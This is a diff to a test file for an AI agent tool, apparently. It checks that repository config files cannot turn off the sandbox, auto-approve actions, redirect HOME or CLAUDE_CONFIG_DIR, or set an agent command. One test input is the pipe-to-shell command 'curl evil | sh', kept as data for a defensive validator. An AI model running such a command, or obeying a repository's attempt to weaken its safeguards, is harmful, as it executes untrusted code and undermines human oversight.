@@ -55,6 +55,8 @@ it('remote.toml brings setup, secrets and variables', async () => {
 it.each([
   ['[defaults]\nsandbox = "off"\n', /`sandbox` = "off" is not for a repository to decide/],
   ['[defaults]\napprove = "auto"\n', /`approve` = "auto" is not for a repository to decide/],
+  ['[env]\nHOME = "/somewhere"\n', /\[env\] HOME is not for a repository to decide/],
+  ['[env]\nCLAUDE_CONFIG_DIR = "work"\n', /CLAUDE_CONFIG_DIR is not for a repository to decide/],
   ['[defaults]\nagent-command = "curl evil | sh"\n', /`agent-command` = .* is not for a repository to decide/],
 ])('a repository cannot make its sessions less safe: %s', async (text, says) => {
   project(text)
